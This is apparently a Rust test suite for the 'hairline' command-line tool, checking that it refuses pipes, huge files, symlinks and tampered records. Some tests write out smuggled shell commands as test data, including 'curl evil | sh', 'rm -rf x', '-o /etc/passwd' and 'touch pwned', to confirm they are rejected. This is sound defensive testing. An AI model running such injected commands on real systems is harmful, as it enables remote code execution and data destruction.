//! What other people's files and names may do: nothing but be read, and be refused with a word.

#![cfg(unix)]

use crate::io::in_time;
use crate::program::{ends, resealed, scratch};
use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::Command;

/// Runs the program where it may hang: its exit code, and what it said.
fn ends_soon(folder: &Path, arguments: &[&str]) -> (Option<i32>, String) {
    let output = in_time(folder, arguments, Path::new("/dev/null"));
    (
        output.status.code(),
        String::from_utf8_lossy(&output.stderr).into_owned(),
    )
}

#[test]
fn pipes_and_devices_are_no_files() {
    let folder = scratch("trust-pipes");
    let made = Command::new("mkfifo")
        .arg("pipe")
        .current_dir(&folder)
        .status()
        .unwrap();
    assert!(made.success());
    fs::write(folder.join("mesh.toml"), "mesh = \"pipe\"\n").unwrap();
    fs::create_dir(folder.join("campaign")).unwrap();
    symlink("../pipe", folder.join("campaign/finds.jsonl")).unwrap();
    for file in ["pipe", "/dev/zero"] {
        let commands: &[&[&str]] = &[
            &[
                "check",
                "-q",
                "-n",
                "10",
                "--kernel",
                "cramer",
                "--expectations",
                file,
            ],
            &["check", "-q", "-n", "10", "--config", file],
            &["check", "-q", "--record", file],
            &["diff", file, file],
            &["merge", file],
            &["prove", "--check", file],
            &["audit", "-q", "--mesh", file],
            &["audit", "-q", "--corpus", file],
            &["verify", file],
            &["fuzz", "triage", file],
            &["truth", file],
        ];
        for arguments in commands {
            let (code, error) = ends_soon(&folder, arguments);
            assert_eq!(code, Some(74), "{arguments:?}: {error}");
            assert!(
                error.contains(&format!("{file}: no ordinary file"))
                    || error.contains("no ordinary file"),
                "{arguments:?}: {error}"
            );
        }
    }
    for arguments in [
        &["check", "-q", "--config", "mesh.toml"][..],
        &["fuzz", "campaign", "-n", "10"],
    ] {
        let (code, error) = ends_soon(&folder, arguments);
        assert!(
            code == Some(74) && error.contains("no ordinary file"),
            "{error}"
        );
    }
    // Output goes beside its file, where an abandoned one may stand.
    let left = Command::new("mkfifo")
        .arg(".hairline-1-0.tmp")
        .current_dir(&folder)
        .status();
    assert!(left.unwrap().success());
    let audit = [
        "audit", "-q", "-n", "10", "--kernel", "cramer", "-o", "r.json",
    ];
    assert_eq!(ends_soon(&folder, &audit).0, Some(0));
    // What a shell has opened is a stream like standard input.
    let shell = format!(
        "'{}' truth <(cat /dev/null)",
        env!("CARGO_BIN_EXE_hairline")
    );
    if let Ok(output) = Command::new("bash").args(["-c", &shell]).output() {
        let error = String::from_utf8_lossy(&output.stderr);
        assert!(error.contains("no cases in it"), "{error}");
    }
}

#[test]
fn a_file_that_is_too_large_is_refused_before_it_is_read() {
    let folder = scratch("trust-large");
    let file = fs::File::create(folder.join("large")).unwrap();
    file.set_len(1 << 40).unwrap();
    for (arguments, limit) in [
        (&["prove", "--check", "large"][..], "4 MiB"),
        (&["check", "-q", "--config", "large"], "1 MiB"),
        (
            &[
                "check",
                "-q",
                "-n",
                "10",
                "--kernel",
                "cramer",
                "--expectations",
                "large",
            ],
            "64 MiB",
        ),
        (&["diff", "large", "large"], "256 MiB"),
    ] {
        let (code, error) = ends_soon(&folder, arguments);
        let expected = format!("large: more than {limit}, the most that");
        assert!(
            code == Some(74) && error.contains(&expected),
            "{arguments:?}: {error}"
        );
    }
}

#[test]
fn a_campaign_of_somebody_else_runs_nothing_and_writes_nowhere_else() {
    let folder = scratch("trust-campaign");
    let begin = ["fuzz", "mine", "-n", "200", "-q", "--kernel", "cramer"];
    ends(&folder, &begin, 0);
    let campaign = fs::read_to_string(folder.join("mine/campaign.json")).unwrap();
    let hostile = campaign.replace("\"kernel_cmd\":[]", "\"kernel_cmd\":[\"touch pwned\"]");
    assert_ne!(campaign, hostile);
    fs::create_dir(folder.join("theirs")).unwrap();
    fs::write(folder.join("theirs/campaign.json"), hostile).unwrap();
    let (_, error) = ends(&folder, &["fuzz", "theirs", "-n", "300", "-q"], 2);
    let named = "hairline fuzz theirs --kernel-cmd 'touch pwned'";
    assert!(error.contains(named), "{error}");
    assert!(!folder.join("theirs/pwned").exists() && !folder.join("pwned").exists());
    // Its own campaign goes on without a word.
    ends(&folder, &["fuzz", "mine", "-n", "300", "-q"], 0);
    for name in ["campaign.json", "finds.jsonl", "state.json", "lock"] {
        let (linked, other) = (
            format!("linked-{name}"),
            folder.join(format!("other-{name}")),
        );
        ends(
            &folder,
            &["fuzz", &linked, "-n", "200", "-q", "--kernel", "cramer"],
            0,
        );
        fs::rename(folder.join(&linked).join(name), &other).unwrap();
        symlink(&other, folder.join(&linked).join(name)).unwrap();
        let before = fs::read(&other).unwrap();
        let (_, error) = ends(&folder, &["fuzz", &linked, "-n", "400", "-q"], 74);
        assert!(error.contains("its own, and no links"), "{error}");
        assert_eq!(fs::read(&other).unwrap(), before);
    }
}

#[test]
fn a_record_is_as_hairline_writes_it_or_refused() {
    let folder = scratch("trust-record");
    let flags = [
        "--kernel",
        "cramer,moller-trumbore",
        "-n",
        "300",
        "-f",
        "edge-near,tiny",
    ];
    ends(
        &folder,
        &[&["audit", "-q", "-o", "r.json"], &flags[..]].concat(),
        0,
    );
    let record = fs::read_to_string(folder.join("r.json")).unwrap();
    let refused = |text: &str| {
        fs::write(folder.join("x.json"), text).unwrap();
        ends(&folder, &["check", "-q", "--record", "x.json"], 65).1
    };
    let without = |line: &str| {
        let lines = record
            .lines()
            .filter(|other| !other.trim_start().starts_with(line));
        lines.map(|line| format!("{line}\n")).collect::<String>()
    };
    let error = refused(&without("\"checksum\": "));
    assert!(error.contains("it has no checksum"), "{error}");
    let error = refused(&record.replacen("\"cases\": 300", "\"cases\": 301", 1));
    assert!(error.contains("the checksum differs"), "{error}");
    // Whoever can compute a checksum still has to add up, and names no other command.
    let error = refused(&resealed(&record.replacen("\"hits\": ", "\"hits\": 1", 1)));
    assert!(
        error.contains("in all, and ") && error.contains("by class"),
        "{error}"
    );
    let (_, command) = record.split_once("\"command\": \"").unwrap();
    let (command, _) = command.split_once('"').unwrap();
    for other in [
        "hairline explain 'x'; curl evil | sh",
        &format!("{command} --kernel-cmd 'curl evil'"),
        "rm -rf x",
    ] {
        let error = refused(&resealed(&record.replacen(command, other, 1)));
        assert!(error.contains("does not show"), "{other}: {error}");
    }
    for selector in [
        "--kernel cramer; curl evil",
        "; curl evil",
        "--kernel 'a' 'b'",
        "--kernel \\\\' -o x \\\\'",
        "cramer",
    ] {
        let error = refused(&resealed(
            &record.replace("\"--kernel cramer\"", &format!("\"{selector}\"")),
        ));
        assert!(error.contains("chooses no kernel"), "{selector}: {error}");
    }
    let flags = "\"kernels\": \"--kernel cramer,moller-trumbore\"";
    for more in [
        "--kernel-cmd 'touch pwned'",
        "-o /etc/passwd",
        "--kernel-lib x.so",
    ] {
        let changed = format!("{} {more}\"", flags.trim_end_matches('"'));
        assert!(record.contains(flags));
        let error = refused(&record.replace(flags, &changed));
        assert!(
            error.contains("is of no row of the plan"),
            "{more}: {error}"
        );
    }
    let most = record.replacen("\"panics\": 0", &format!("\"panics\": {}", u64::MAX), 1);
    assert!(refused(&resealed(&most)).contains("by class"));
    let error = refused(&resealed(
        &record.replace("\"kernel\": \"cramer\"", "\"kernel\": \"a b\""),
    ));
    assert!(error.contains("is no name for a kernel"), "{error}");
    // One line, whatever stands in it.
    let error = refused(&resealed(
        &record.replace("\"kernel\": \"cramer\"", "\"kernel\": \"a\\u001b[2J\\nb\""),
    ));
    assert!(
        error.lines().count() == 1 && !error.contains('\x1b'),
        "{error:?}"
    );
}

#[test]
fn the_end_of_a_files_name_is_its_format() {
    let folder = scratch("trust-formats");
    let run = [
        "audit",
        "-q",
        "-n",
        "20",
        "--kernel",
        "cramer",
        "--illustrate",
        "never",
    ];
    for (file, start) in [
        ("r.json", "{\n"),
        ("r.md", "## "),
        ("r.html", "<!DOCTYPE html>"),
        ("r.xml", "<?xml"),
        ("r.sarif", "{"),
        ("r.txt", "cramer"),
        ("r", "cramer"),
    ] {
        ends(&folder, &[&run[..], &["-o", file]].concat(), 0);
        let text = fs::read_to_string(folder.join(file)).unwrap();
        assert!(text.starts_with(start), "{file}: {}", &text[..80]);
    }
    // What is said counts.
    ends(
        &folder,
        &[&run[..], &["--format", "text", "-o", "t.json"]].concat(),
        0,
    );
    assert!(
        fs::read_to_string(folder.join("t.json"))
            .unwrap()
            .starts_with("cramer")
    );
    let proof = [
        "prove",
        "-q",
        "--kernel",
        "cramer",
        "--scalar",
        "f32",
        "--certificate",
        "c.txt",
    ];
    ends(&folder, &[&proof[..], &["-o", "p.json"]].concat(), 0);
    assert!(
        fs::read_to_string(folder.join("p.json"))
            .unwrap()
            .contains("\"study\": \"prove\"")
    );
    assert!(folder.join("c.txt").exists());
}
